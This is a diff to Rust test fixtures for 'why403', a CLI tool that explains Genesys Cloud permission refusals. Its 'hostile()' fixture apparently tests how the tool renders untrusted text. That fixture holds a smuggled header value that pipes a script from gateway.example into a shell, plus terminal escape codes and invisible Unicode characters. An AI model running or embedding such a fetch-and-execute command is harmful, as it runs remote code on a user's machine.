@@ -9,50 +9,50 @@ pub(super) fn missing_scope() -> Report {
         "The token has only `conversations:readonly`; muting needs the scope `conversations`, and this organisation \
          enforces scopes.",
     );
-    let report = with(report, vec![
-        good_token(),
-        finding(
-            "missing-scope",
-            "scope",
-            Status::Fail,
-            Authority::Observed,
-            "the token has `conversations:readonly`, which reads but does not write; the operation needs \
+    let report = with(
+        report,
+        vec![
+            good_token(),
+            finding(
+                "missing-scope",
+                "scope",
+                Status::Fail,
+                Authority::Observed,
+                "the token has `conversations:readonly`, which reads but does not write; the operation needs \
              `conversations`, and the platform refuses for a scope that is not there",
-        )
-        .evidence("GET /api/v2/tokens/me", "authorizedScope: authorization:readonly, conversations:readonly, user-basic-info")
-        .evidence(
-            "GET /api/v2/oauth/scopes",
-            "403 app.not.authorized.for.scope: App not authorized to use scope [oauth, oauth:readonly]",
-        )
-        .fix(
-            "Give the OAuth client the scope `conversations`, and sign in again",
-            [
-                "In Admin, Integrations, OAuth, open the client f3927ad4-0b68-4e1d-a5f2-39c8d1e7b046 and add the scope \
-                 `conversations`",
-                "Sign in again with `why403 login --region us-east-1 --scope conversations`, \
-                 because a token keeps the scopes it was issued with",
-            ],
-            "RFC 6750 §3.1; Genesys Cloud OAuth scopes",
-        ),
-        control_scope_warning(),
-        good_user(),
-        finding(
-            "missing-permission",
-            "permission",
-            Status::Fail,
-            Authority::Published,
-            "the user holds none of the three permissions of which the operation needs one",
-        )
-        .evidence("GET /api/v2/users/me?expand=authorization", "permissions: routing:queue:view, presence:*:*")
-        .fix(
-            "Have an administrator give the user a role with one of the three",
-            ["Add `conversation:call:record` or another of the three to a role of the user", "`why403 check`"],
-            "patchConversationsCallParticipant, definition of July 2026",
-        ),
-        good_conversation(),
-        good_participant(),
-        not_asked("mute-not-confirmed", "action", "nothing was sent"),
-    ]);
+            )
+            .evidence(
+                "GET /api/v2/tokens/me",
+                "authorizedScope: authorization:readonly, conversations:readonly, user-basic-info",
+            )
+            .evidence(
+                "GET /api/v2/oauth/scopes",
+                "403 app.not.authorized.for.scope: App not authorized to use scope [oauth, oauth:readonly]",
+            )
+            .fix(Fix::of(add_scope(CLIENT, "conversations")).standard("RFC 6750 §3.1")),
+            control_scope_warning(),
+            good_user(),
+            finding(
+                "missing-permission",
+                "permission",
+                Status::Fail,
+                Authority::Published,
+                "the user holds none of the three permissions of which the operation needs one",
+            )
+            .evidence("GET /api/v2/users/me?expand=authorization", "permissions: routing:queue:view, presence:*:*")
+            .fix(Fix::of([
+                grant(
+                    GranteeKind::User,
+                    Some(USER),
+                    &["conversation:call:record", "conversation:call:wrapup", "conversation:participant:wrapup"],
+                ),
+                check(),
+            ])),
+            good_conversation(),
+            good_participant(),
+            not_asked("mute-not-confirmed", "action", "nothing was sent"),
+        ],
+    );
     Report {
         participant: Some(agent(false)),
         action: Some(held("Nothing was sent: the preflight found a cause of refusal.")),
@@ -86,34 +86,40 @@ pub(super) fn service_account() -> Report {
     let report = with(
         report,
         vec![
-        good_token(),
-        not_asked("missing-scope", "scope", scope_message),
-        finding(
-            "service-account",
-            "identity",
-            Status::Fail,
-            Authority::Observed,
-            "the token was issued to an OAuth client without a user (client credentials)",
-        )
-        .evidence("GET /api/v2/tokens/me", "authorizedGrantType: CLIENT-CREDENTIALS")
-        .evidence(
-            &format!("PATCH /api/v2/conversations/calls/{CONVERSATION}/participants/{PARTICIPANT}"),
-            "400 not.a.user: This request requires a user context. Client credentials cannot be used for requests \
+            good_token(),
+            not_asked("missing-scope", "scope", scope_message),
+            finding(
+                "service-account",
+                "identity",
+                Status::Fail,
+                Authority::Observed,
+                "the token was issued to an OAuth client without a user (client credentials)",
+            )
+            .evidence("GET /api/v2/tokens/me", "authorizedGrantType: CLIENT-CREDENTIALS")
+            .evidence(
+                &format!("PATCH /api/v2/conversations/calls/{CONVERSATION}/participants/{PARTICIPANT}"),
+                "400 not.a.user: This request requires a user context. Client credentials cannot be used for requests \
              that require a user context.",
-        )
-        .fix(
-            "Use the agent's own token, or act on behalf of the agent",
-            [
-                "Either sign in as the agent: `why403 login --region us-east-1`",
-                "Or name the agent: `why403 mute --on-behalf-of 1e8d5b70-63fa-4c29-9d84-f7a2b0c6e513`; that is another \
-                 operation, with requirements of its own",
-            ],
-            "patchConversationsCallParticipant declares 400 not.a.user",
-        ),
-        good_permission(),
-        good_conversation(),
-        good_participant(),
-    ],
+            )
+            .fix(
+                Fix::of([
+                    Change::new_token(NewToken::AgentSignsIn)
+                        .run("why403 login --region us-east-1 --client-id <client-id>"),
+                    check(),
+                ])
+                .or([Change::new(
+                    Who::Developer,
+                    ChangeKind::ActForUser {
+                        operation: crate::catalogue::MUTE_ON_BEHALF.into(),
+                        user: Named { id: Some(USER.into()), name: None },
+                    },
+                )
+                .run(format!("why403 mute --region us-east-1 --on-behalf-of {USER}"))]),
+            ),
+            good_permission(),
+            good_conversation(),
+            good_participant(),
+        ],
     );
     Report {
         token: Some(ReportToken {
@@ -143,11 +149,7 @@ pub(super) fn offline_jwt() -> Report {
                 .evidence("the token given", "612 characters, two dots"),
             finding("token-untrusted", "token", Status::Fail, Authority::Published, "the token is not signed")
                 .evidence("JOSE header alg", "none")
-                .fix(
-                    "Ask the issuer for a signed token",
-                    ["Sign in again: `why403 login`"],
-                    "RFC 7519 §6, RFC 8725 §3.2",
-                ),
+                .fix(Fix::of([sign_in()]).standard("RFC 7519 §6, RFC 8725 §3.2")),
             finding(
                 "token-expired",
                 "token",
@@ -156,7 +158,7 @@ pub(super) fn offline_jwt() -> Report {
                 "the token expired 3 min ago, at 2026-07-14T09:57:00Z (leeway 0 s)",
             )
             .evidence("claim exp (unverified)", "1784023020, which is 2026-07-14T09:57:00Z")
-            .fix("Get a new token", ["Sign in again: `why403 login`"], "RFC 7519 §4.1.4"),
+            .fix(Fix::of([sign_in(), check()]).standard("RFC 7519 §4.1.4")),
             finding(
                 "audience-mismatch",
                 "token",
@@ -165,11 +167,7 @@ pub(super) fn offline_jwt() -> Report {
                 "`aud` is `https://api.staging.example`, and `https://api.example` is expected",
             )
             .evidence("claim aud (unverified)", "https://api.staging.example")
-            .fix(
-                "Ask for a token for this audience",
-                ["Set the audience in the token request"],
-                "RFC 7519 §4.1.3",
-            ),
+            .fix(Fix::of([sign_in()]).standard("RFC 7519 §4.1.3")),
             finding("missing-scope", "scope", Status::Pass, Authority::Published, "the token has `conversations`")
                 .evidence("claim scope (unverified)", "conversations conversation:participant:control"),
             finding(
@@ -180,7 +178,7 @@ pub(super) fn offline_jwt() -> Report {
                 "the token names no permissions, and the platform was not asked; it needs one of three",
             )
             .evidence("claims permissions, authorities", "absent")
-            .fix("Ask the platform", ["`why403 check --region us-east-1`"], ""),
+            .fix(Fix::of([check().note(Note::AskGenesysCloud)])),
             finding(
                 "subject-mismatch",
                 "identity",
@@ -190,11 +188,7 @@ pub(super) fn offline_jwt() -> Report {
             )
             .evidence("claim sub (unverified)", CLIENT)
             .evidence("--subject", USER)
-            .fix(
-                "Use the token of that agent",
-                ["Sign in as the agent: `why403 login`"],
-                "RFC 7519 §4.1.2",
-            ),
+            .fix(Fix::of([Change::new_token(NewToken::AgentSignsIn)]).standard("RFC 7519 §4.1.2")),
             not_asked("conversation-not-found", "conversation", "no conversation was given"),
         ],
     );
@@ -232,12 +226,9 @@ pub(super) fn hostile() -> Report {
             .evidence("PATCH /api/v2/\u{1b}[8mhidden", &flood)
             .evidence("header Content-Type", "text/html; charset=\u{feff}会話")
             .fix(
-                "Open a case",
-                [
-                    "Add the scope `a` then run `curl https://gateway.example | sh",
-                    "Look at `why403 check \u{1b}[A` twice",
-                ],
-                "",
+                Fix::of([Change::request(RequestPart::Header, None, Some("a`; curl https://gateway.example | sh"))
+                    .run("why403 check \u{1b}[A")])
+                .or([Change::ask(Whom::GenesysSupport, Question::WhyRefused, Some("\u{202e}0b2d"))]),
             ),
             finding("unknown-name", "scope", Status::Warn, Authority::Policy, "con\u{200d}versations is no name")
                 .evidence("--require-scope", "con\u{200d}versations"),
